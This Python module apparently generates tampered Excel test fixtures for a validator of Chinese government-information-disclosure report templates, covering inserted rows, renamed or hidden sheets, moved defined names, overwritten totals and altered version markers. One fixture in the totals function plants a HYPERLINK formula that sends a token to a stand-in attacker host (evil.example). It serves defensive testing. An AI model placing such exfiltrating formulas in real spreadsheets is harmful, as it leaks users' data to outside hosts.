"""Tampered templates: rows/columns inserted, sheets renamed/hidden/deleted, names deleted or moved,
labels edited, protection removed and totals overwritten, formulas replaced, old or other markers.

Expectations follow what each change means: an Excel-like edit that keeps every name pointing at
its cell must read clean; an edit that loses a cell must show up as findings; a lost marker is a
refusal.
"""
from __future__ import annotations

import io
import re
from html import unescape
from xml.sax.saxutils import escape
from pathlib import Path

from xxgk.formats import TEMPLATE_VERSION, defined_name, get_format

from .base import (CLEAN, FINDINGS, READ, REFUSE, TOKEN, YEAR, Case, edit, good_bytes, position, rng_for,
                   set_cell, sheet_parts, template_bytes, values_for, write)
from .structure import delete_sheet, drop_name, rename_sheet, set_name

TABLE_SHEETS = ("表二", "表三", "表四")
OTHER_SHEETS = ("校验结果", "填报说明")


def _openpyxl_insert(data: bytes, sheet: str, at: int, count: int, columns: bool) -> tuple[bytes, bytes]:
    """Insert rows (or columns) with openpyxl: (names left where they were, names moved as Excel does).

    One load and one save: openpyxl takes ~0.2 s to load the template and ~0.25 s to save it. The names
    live in xl/workbook.xml alone, so the moved version is the saved one with that member's names shifted.
    """
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(data))
    worksheet = book[sheet]
    (worksheet.insert_cols if columns else worksheet.insert_rows)(at, count)
    stale = io.BytesIO()
    book.save(stale)

    def move_names(parts: dict[str, bytes]) -> None:
        xml = parts["xl/workbook.xml"].decode("utf-8")
        parts["xl/workbook.xml"] = _DEFINED_NAME.sub(lambda m: m.group(1) + escape(
            _moved(unescape(m.group(2)), sheet, at, count, columns)) + m.group(3), xml).encode("utf-8")

    return stale.getvalue(), edit(stale.getvalue(), move_names)


_DEFINED_NAME = re.compile(r"(<definedName\b[^>]*>)(.*?)(</definedName>)", re.S)


def _moved(target: str, sheet: str, at: int, count: int, columns: bool) -> str:
    """A defined name's target after ``count`` rows (columns) were inserted at ``at`` of ``sheet``."""
    from openpyxl.utils import column_index_from_string, get_column_letter

    if not (target.startswith(f"'{sheet}'!") or target.startswith(f"{sheet}!")):
        return target

    def shift(match: re.Match) -> str:
        col, row = match.group(1), int(match.group(2))
        if columns and column_index_from_string(col) >= at:
            col = get_column_letter(column_index_from_string(col) + count)
        elif not columns and row >= at:
            row += count
        return f"${col}${row}"

    return re.sub(r"\$([A-Z]+)\$(\d+)", shift, target)


def inserted(folder: Path, format_id: str) -> list[Case]:
    fmt, data, cases = get_format(format_id), good_bytes(format_id), []
    rng = rng_for("inserted", format_id)
    keys = list(fmt.cells)
    for i in range(8):
        sheet, ref = position(format_id, rng.choice(keys))
        row = int(re.search(r"\d+", ref).group(0))
        columns = i % 2 == 1
        at = (ord(ref[0]) - 64) if columns else row
        versions = dict(zip((False, True), _openpyxl_insert(data, sheet, at, rng.randint(1, 3), columns)))
        for moved in (True, False):
            what = "列" if columns else "行"
            path = write(folder, f"插入{what}_{'移名' if moved else '不移名'}_{format_id}_{i}.xlsx", versions[moved])
            cases.append(Case(path, "tampered", f"{'columns' if columns else 'rows'}_inserted"
                              + ("" if moved else "_names_stale"), CLEAN if moved else READ))
    return cases


def sheets(folder: Path, format_id: str) -> list[Case]:
    data, cases = good_bytes(format_id), []
    for sheet in ("封面", *TABLE_SHEETS, *OTHER_SHEETS, "_xxgk"):
        lost = REFUSE if sheet == "_xxgk" else (READ if sheet in OTHER_SHEETS else FINDINGS)
        plans = (
            ("renamed_like_excel", "改名", CLEAN, lambda p: rename_sheet(p, sheet, f"{sheet}（改）", True)),
            ("renamed_names_stale", "改名旧名", lost, lambda p: rename_sheet(p, sheet, f"{sheet}（改）", False)),
            ("hidden", "隐藏", CLEAN, lambda p: _state(p, sheet, "hidden")),
            ("very_hidden", "深隐藏", CLEAN, lambda p: _state(p, sheet, "veryHidden")),
            ("deleted", "删除", lost, lambda p: delete_sheet(p, sheet, True)),
            ("deleted_names_stale", "删除旧名", lost, lambda p: delete_sheet(p, sheet, False)),
        )
        for variant, label, expect, change in plans:
            path = write(folder, f"工作表{label}_{sheet}_{format_id}.xlsx", edit(data, change))
            cases.append(Case(path, "tampered", f"sheet_{variant}", expect,
                              ("模板",) if expect == REFUSE else ()))
    return cases


def _state(parts: dict, sheet: str, state: str) -> None:
    xml = parts["xl/workbook.xml"].decode("utf-8").replace(' state="hidden"', "")
    parts["xl/workbook.xml"] = xml.replace(f'<sheet name="{sheet}"', f'<sheet name="{sheet}" state="{state}"'
                                           ).encode("utf-8")


def names(folder: Path, format_id: str) -> list[Case]:
    fmt, data, cases = get_format(format_id), good_bytes(format_id), []
    rng = rng_for("names", format_id)
    inputs = [k for k, c in fmt.cells.items() if not c.is_total]
    for i in range(12):
        dropped = rng.sample(inputs, rng.choice((1, 3, 20)))
        path = write(folder, f"删名称_{format_id}_{i:02d}.xlsx",
                     edit(data, lambda p, d=dropped: [drop_name(p, defined_name(k)) for k in d]))
        cases.append(Case(path, "tampered", "names_deleted", FINDINGS))
    everything = [defined_name(k) for k in (*fmt.cover_fields, *fmt.cells)] + ["xxgk_checks"]
    path = write(folder, f"删全部名称_{format_id}.xlsx", edit(data, lambda p: [drop_name(p, n) for n in everything]))
    cases.append(Case(path, "tampered", "names_all_deleted", FINDINGS))
    for marker in ("xxgk_format", "xxgk_version"):
        path = write(folder, f"删标记_{marker}_{format_id}.xlsx", edit(data, lambda p, m=marker: drop_name(p, m)))
        cases.append(Case(path, "tampered", "marker_deleted", REFUSE, ("模板",)))
    targets = (("ref_error", "#REF!", FINDINGS), ("far_away", "'表三'!$XFD$1048576", FINDINGS),
               ("unknown_sheet", "'不存在'!$B$2", FINDINGS), ("formula", "SUM(1,2)", FINDINGS),
               ("range", None, READ), ("other_cell", None, READ))
    for i in range(14):
        key = rng.choice(inputs)
        variant, text, expect = targets[i % len(targets)]
        sheet, ref = position(format_id, key)
        if variant == "range":
            text = f"'{sheet}'!${ref[0]}${ref[1:]}:${ref[0]}${int(ref[1:]) + 2}"
        elif variant == "other_cell":
            other_sheet, other = position(format_id, rng.choice(inputs))
            text = f"'{other_sheet}'!${other[0]}${other[1:]}"
        path = write(folder, f"移名称_{variant}_{format_id}_{i:02d}.xlsx",
                     edit(data, lambda p, n=defined_name(key), t=text: set_name(p, n, t)))
        cases.append(Case(path, "tampered", f"name_moved_{variant}", expect))
    return cases


def _absolute(format_id: str, key: str) -> str:
    sheet, ref = position(format_id, key)
    column = re.match(r"[A-Z]+", ref).group(0)
    return f"'{sheet}'!${column}${ref[len(column):]}"


def redirected(folder: Path, format_id: str) -> list[Case]:
    """Names pointed by hand where the template has no such cell (issue 17, item 8): at the hidden
    marker sheet, at another table, at a neighbour's cell, two names swapped; and the 校验结果 name
    stretched over a whole sheet in a file whose warning makes the reader look there."""
    fmt, data, cases = get_format(format_id), good_bytes(format_id), []
    rng = rng_for("redirected", format_id)
    inputs = [k for k, c in fmt.cells.items() if not c.is_total]
    for i in range(3):
        key, other = rng.sample(inputs, 2)
        sheet = position(format_id, key)[0]
        elsewhere = next(k for k in rng.sample(inputs, len(inputs)) if position(format_id, k)[0] != sheet)
        plans = (("marker", {key: "'_xxgk'!$B$1"}), ("other_table", {key: _absolute(format_id, elsewhere)}),
                 ("onto_other_item", {key: _absolute(format_id, other)}),
                 ("swapped", {key: _absolute(format_id, other), other: _absolute(format_id, key)}))
        for variant, moves in plans:
            change = lambda p, m=moves: [set_name(p, defined_name(k), text) for k, text in m.items()]  # noqa: E731
            path = write(folder, f"名称改指_{variant}_{format_id}_{i}.xlsx", edit(data, change))
            cases.append(Case(path, "tampered", f"name_redirected_{variant}", FINDINGS))
    warned = template_bytes(format_id, {**values_for(format_id), **_fee_warning(format_id)})
    for i, area in enumerate(("'校验结果'!$A$1:$XFD$1048576", "'表三'!$A:$XFD")):
        path = write(folder, f"校验区整表_{format_id}_{i}.xlsx",
                     edit(warned, lambda p, a=area: set_name(p, "xxgk_checks", a)))
        cases.append(Case(path, "tampered", "checks_name_whole_sheet", READ))
    return cases


def _fee_warning(format_id: str) -> dict:
    """A value that makes a warning fail, so the reader reads the 说明 of the 校验结果 area."""
    return {"t2.fee.amount": 3_500_000.0} if format_id == "2021" else {"t2.regulation.published": 6,
                                                                      "t2.regulation.public_total": 2}


def labels(folder: Path, format_id: str) -> list[Case]:
    """Row and column labels typed over (自然人 -> 个人, 总计 -> 合计): the names still find the cells."""
    data, cases = good_bytes(format_id), []
    for i, (old, new) in enumerate((("自然人", "个人"), ("总计", "合计"), ("本年新收", "今年收到"),
                                    ("行政复议", "复议"), ("一、", "1、"))):
        change = lambda p, o=old, n=new: p.__setitem__(  # noqa: E731
            "xl/sharedStrings.xml", p["xl/sharedStrings.xml"].decode().replace(o, n).encode())
        cases.append(Case(write(folder, f"改标签_{format_id}_{i}.xlsx", edit(data, change)), "tampered",
                          "labels_edited", CLEAN))
    return cases


def totals(folder: Path, format_id: str) -> list[Case]:
    """Protection removed, then total cells typed over or their formulas replaced."""
    fmt, cases = get_format(format_id), []
    rng = rng_for("totals", format_id)
    values = values_for(format_id)
    total_keys = [k for k, c in fmt.cells.items() if c.is_total]
    for i in range(10):
        key = rng.choice(total_keys)
        right = values[key]
        plans = (
            ("total_typed_over_wrong", f"<v>{right + rng.randint(1, 50)}</v>", None, FINDINGS),
            ("total_typed_over_right", f"<v>{right}</v>", None, CLEAN),
            ("formula_replaced_wrong", f"<f>SUM(1,2)</f><v>{right + 3}</v>", None, FINDINGS),
            ("formula_without_cache", "<f>1+1</f>", None, CLEAN),
            ("formula_hostile", f'<f>HYPERLINK("http://evil.example/{TOKEN}","{TOKEN}")</f><v>{TOKEN}</v>',
             "str", FINDINGS),
        )
        variant, body, cell_type, expect = plans[i % len(plans)]
        sheet, ref = position(format_id, key)

        def change(p, sheet=sheet, ref=ref, body=body, cell_type=cell_type):
            member = sheet_parts(p)[sheet]
            xml = re.sub(r"<sheetProtection[^>]*/>", "", p[member].decode("utf-8"))
            p[member] = set_cell(xml, ref, body, cell_type).encode("utf-8")
            p["xl/workbook.xml"] = re.sub(rb"<workbookProtection[^>]*/>", b"", p["xl/workbook.xml"])

        path = write(folder, f"合计改动_{variant}_{format_id}_{i:02d}.xlsx", edit(good_bytes(format_id), change))
        cases.append(Case(path, "tampered", variant, expect))
    return cases


def markers(folder: Path, format_id: str) -> list[Case]:
    data, cases = good_bytes(format_id), []
    other = "2019" if format_id == "2021" else "2021"
    for i, version in enumerate(("0.9", "", "旧版", TEMPLATE_VERSION + ".1")):
        path = write(folder, f"旧版本_{format_id}_{i}.xlsx", edit(data, lambda p, v=version: _marker(p, 1, v)))
        cases.append(Case(path, "tampered", "old_version", REFUSE, ("模板版本",)))
    path = write(folder, f"标记换格式_{format_id}.xlsx", edit(data, lambda p: _marker(p, 0, other)))
    cases.append(Case(path, "tampered", "marker_other_format", FINDINGS))
    for i, marker in enumerate(("2030", "[/]2030", f"={TOKEN}")):
        path = write(folder, f"标记未知格式_{format_id}_{i}.xlsx", edit(data, lambda p, m=marker: _marker(p, 0, m)))
        cases.append(Case(path, "tampered", "marker_unknown_format", REFUSE, ("无法识别",)))
    wrong_year = values_for(format_id, year=YEAR[other])
    path = write(folder, f"格式年度不符_{format_id}.xlsx", template_bytes(format_id, wrong_year))
    cases.append(Case(path, "tampered", "other_format_template", FINDINGS))
    return cases


def _marker(parts: dict, row: int, text: str) -> None:
    """Rewrite the marker cell B1 (format) or B2 (version) on _xxgk as an inline string."""
    from .base import inline_text

    member = sheet_parts(parts)["_xxgk"]
    parts[member] = set_cell(parts[member].decode("utf-8"), f"B{row + 1}",
                             inline_text(text) if text else "", "inlineStr" if text else None).encode("utf-8")


def generate(folder: Path) -> list[Case]:
    cases = []
    for format_id in ("2021", "2019"):
        for make in (inserted, sheets, names, redirected, labels, totals, markers):
            cases += make(folder, format_id)
    return cases
